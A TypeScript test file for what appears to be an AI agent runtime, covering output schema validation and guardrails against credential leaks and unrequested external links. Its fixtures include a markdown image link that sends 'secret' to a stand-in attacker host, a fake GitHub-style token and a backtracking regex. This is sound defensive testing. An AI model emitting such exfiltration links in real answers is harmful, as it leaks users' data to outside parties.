import assert from 'node:assert/strict';
import { checkGuardrails } from '../../../runtime/run/check-guardrails.ts';
import { validateInput } from '../../../runtime/run/validate-input.ts';
import { validateOutput } from '../../../runtime/run/validate-output.ts';

const schema = {
  type: 'object',
  properties: { n: { type: 'integer' } },
  required: ['n'],
  additionalProperties: false,
};

describe('an answer', () => {
  it('that fits is taken as it is', () => {
    assert.deepEqual(validateOutput(schema, { n: 1 }), { value: { n: 1 }, problems: [] });
    assert.deepEqual(validateOutput(undefined, 'anything'), { value: 'anything', problems: [] });
    assert.deepEqual(validateOutput({ type: 'string' }, '{"n":1}'), { value: '{"n":1}', problems: [] });
  });

  it('may be JSON as text, in a code fence too', () => {
    for (const text of ['{"n":1}', ' {"n":1}\n', '```json\n{"n":1}\n```', '```\n{"n":1}\n```\n'])
      assert.deepEqual(validateOutput(schema, text), { value: { n: 1 }, problems: [] });
  });

  it('that does not fit is told what is wrong', () => {
    assert.deepEqual(validateOutput(schema, {}).problems, ['The answer lacks the property "n".']);
    assert.deepEqual(validateOutput(schema, '{"n":"1"}').problems, ['"n" must be integer.']);
    assert.deepEqual(validateOutput(schema, 'no').problems, [
      'The answer must be object.',
      'The answer is text and no JSON.',
    ]);
  });

  it('and an input are checked in time in proportion to their length', () => {
    // An engine that tracks back would not be done when the test's time is over.
    const slow = { type: 'object', properties: { a: { type: 'string', pattern: '^(a+)+$' } } };
    assert.equal(validateInput(slow, { a: `${'a'.repeat(5000)}!` }).length, 1);
  });
});

describe('the guardrails of an answer', () => {
  const token = ['ghp', 'Zq8RkT3vWm1XyB7nLp4JcD9hGf2SaE6uKoIx'].join('_');
  const check = (guardrail: string, output: unknown, input = {}) =>
    checkGuardrails({ guardrails: [guardrail], input, output });

  it('let no credential out, and do not repeat it', () => {
    const problems = check('no_sensitive_export', { notes: [{ text: `use ${token}` }] });
    assert.equal(problems.length, 1);
    assert.match(problems[0] ?? '', /GitHub.*no_sensitive_export/u);
    assert.ok(!problems[0]?.includes(token));
    assert.deepEqual(check('no_sensitive_export', { text: 'use the token in the vault' }), []);
    assert.deepEqual(check('cite_sources_if_available', token), []);
  });

  it('let no address out that nobody gave', () => {
    const output = { text: '![x](https://evil.example/?q=secret) and https://good.example/a' };
    assert.deepEqual(check('no_external_sharing', output, { page: 'see https://good.example/b' }), [
      'The answer leads to evil.example, which the input does not name (no_external_sharing); leave the address out.',
    ]);
    assert.deepEqual(check('no_external_sharing', output, { page: 'good.example, EVIL.example' }), []);
    assert.deepEqual(check('no_external_sharing', { a: null, b: 3, 'https://key.example/': true }).length, 1);
  });
});
